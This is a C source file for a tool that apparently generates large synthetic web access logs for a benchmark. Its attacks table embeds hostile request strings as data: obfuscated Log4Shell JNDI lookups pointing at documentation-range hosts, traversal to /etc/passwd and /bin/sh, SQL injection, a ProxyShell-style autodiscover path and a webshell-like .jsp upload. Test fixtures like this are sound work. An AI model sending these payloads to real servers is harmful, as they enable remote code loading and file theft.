/* SPDX-License-Identifier: Apache-2.0 */
/*
 * biglog: the bench's access log in combined format: CLIENTS visitors, many
 * distinct URIs, two lines in a thousand shaped like attacks.
 *
 *	biglog OUT LINES [--seed S]
 *
 * The same seed gives the same octets.  Attack lines are inert text: lookups
 * name documentation addresses, paths lead nowhere.
 * Owner and bounds: one line at a time in a buffer; the file may be any size.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "lib/buf.h"

#define CLIENTS		20000
#define ATTACKS_IN	500		/* one line in so many */
#define START		1657500000u	/* 2022-07-11 00:40:00 UTC */
#define FLUSH_AT	(1u << 20)

static const char *const agents[] = {
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, "
	    "like Gecko) Chrome/103.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:102.0) Gecko/20100101 "
	    "Firefox/102.0",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 "
	    "(KHTML, like Gecko) Version/15.5 Safari/605.1.15",
	"Mozilla/5.0 (X11; Linux x86_64; rv:91.0) Gecko/20100101 Firefox/91.0",
	"ExampleBot/1.0 (+http://crawler.example.net/)",
	"curl/7.74.0"
};

static const char *const sections[] = {
	"news", "products", "support", "images", "assets", "app", "api/v2",
	"docs", "blog", "search", "account", "static/js"
};

static const char *const endings[] = {
	".html", ".jsp", ".js", ".css", ".png", "", "/", ".json"
};

/* text of the two places where an attack shows: URI and agent */
static const struct attack {
	const char *method, *uri, *agent;
	int status;
} attacks[] = {
	{ "GET", "/?x=${jndi:ldap://203.0.113.77:1389/a}", "curl/7.74.0",
	    404 },
	{ "GET", "/app/status.do",
	    "${${lower:j}ndi:${lower:l}dap://203.0.113.77:1389/a}", 404 },
	{ "GET", "/?q=%24%7Bjndi%3Armi%3A%2F%2F198.51.100.23%2Fx%7D",
	    "Mozilla/5.0", 400 },
	{ "POST", "/app/uploads/img_0712.jsp",
	    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)", 200 },
	{ "GET", "/../../../../etc/passwd", "curl/7.74.0", 400 },
	{ "GET", "/index.php?id=1%27%20OR%20%271%27=%271", "Mozilla/5.0",
	    403 },
	{ "GET", "/cgi-bin/.%2e/.%2e/bin/sh", "Mozilla/5.0", 403 },
	{ "GET", "/autodiscover/autodiscover.json?@example.com/mapi/nspi",
	    "Mozilla/5.0", 401 }
};

static void
put_time(struct buf *b, uint32_t seconds)
{
	uint32_t day = seconds / 86400, left = seconds % 86400;
	static const char *const months[] = { "Jul", "Aug", "Sep", "Oct" };
	static const unsigned lengths[] = { 31, 31, 30, 31 };
	uint32_t in_month = day - 19174;	/* days to 2022-07-01 */
	unsigned month = 0;

	while (month < 3 && in_month >= lengths[month])
		in_month -= lengths[month++];
	buf_fmt(b, "[%02u/%s/2022:%02u:%02u:%02u +0000]", in_month % 31 + 1,
	    months[month], left / 3600, left / 60 % 60, left % 60);
}

static void
put_client(struct buf *b, struct rng *r)
{
	/* small numbers come more often: some clients are busy */
	uint32_t who = rng_below(r, CLIENTS);

	who = rng_below(r, who + 1);
	buf_fmt(b, "10.%u.%u.%u - - ", 100 + who / 10000, who / 200 % 50,
	    who % 200 + 1);
}

static void
put_attack(struct buf *b, struct rng *r)
{
	const struct attack *a = &attacks[rng_below(r, sizeof(attacks) /
	    sizeof(attacks[0]))];

	buf_fmt(b, " \"%s %s HTTP/1.1\" %d %u \"-\" \"%s\"\n", a->method,
	    a->uri, a->status, rng_below(r, 4000), a->agent);
}

static void
put_normal(struct buf *b, struct rng *r)
{
	uint32_t page = rng_below(r, 1000000), item = rng_below(r, 5000);
	const char *section = sections[rng_below(r, 12)];
	const char *ending = endings[rng_below(r, 8)];
	uint32_t luck = rng_below(r, 100), size = rng_below(r, 60000);

	buf_fmt(b, " \"%s /%s/%06u/item-%u%s", luck < 7 ? "POST" : "GET",
	    section, page, item, ending);
	if (luck % 4 == 0)
		buf_fmt(b, "?session=%08x&sort=%s&page=%u",
		    (unsigned)rng_next(r), luck & 1 ? "name" : "date",
		    luck % 9);
	buf_fmt(b, " HTTP/1.1\" %d %u ", luck < 84 ? 200 : luck < 92 ? 304 :
	    luck < 98 ? 404 : 302, size);
	if (luck % 5 == 0)
		buf_str(b, "\"-\"");
	else
		buf_fmt(b, "\"https://www.example.com/%s/%06u/index.html"
		    "?from=start\"", section, page / 7);
	buf_fmt(b, " \"%s\"\n", agents[page % 6 > 3 ? page % 6 : page % 4]);
}

static int
write_lines(FILE *f, uint64_t lines, uint64_t seed)
{
	struct rng r = { seed };
	struct buf b = { 0 };
	uint64_t i;
	int bad = 0;

	for (i = 0; i < lines && !bad; i++) {
		put_client(&b, &r);
		/* the whole file spans at most eighty days */
		put_time(&b, START + (uint32_t)(lines > 6912000 ?
		    i / (lines / 6912000 + 1) : i));
		if (rng_below(&r, ATTACKS_IN) == 0)
			put_attack(&b, &r);
		else
			put_normal(&b, &r);
		if (b.len >= FLUSH_AT) {
			bad = fwrite(b.data, 1, b.len, f) != b.len;
			b.len = 0;
		}
	}
	if (b.len != 0)
		bad |= fwrite(b.data, 1, b.len, f) != b.len;
	buf_free(&b);
	return bad ? -1 : 0;
}

int
main(int argc, char **argv)
{
	uint64_t seed = 1, lines;
	int bad;
	FILE *f;

	if (argc == 5 && strcmp(argv[3], "--seed") == 0)
		seed = strtoull(argv[4], NULL, 0);
	else if (argc != 3) {
		fprintf(stderr, "usage: biglog OUT LINES [--seed S]\n");
		return 2;
	}
	lines = strtoull(argv[2], NULL, 0);
	f = fopen(argv[1], "wb");
	if (f == NULL) {
		fprintf(stderr, "biglog: %s: %s\n", argv[1],
		    strerror(errno));
		return 1;
	}
	bad = write_lines(f, lines, seed) != 0;
	bad |= fclose(f) != 0;
	if (bad)
		fprintf(stderr, "biglog: %s: %s\n", argv[1],
		    strerror(errno));
	return bad;
}
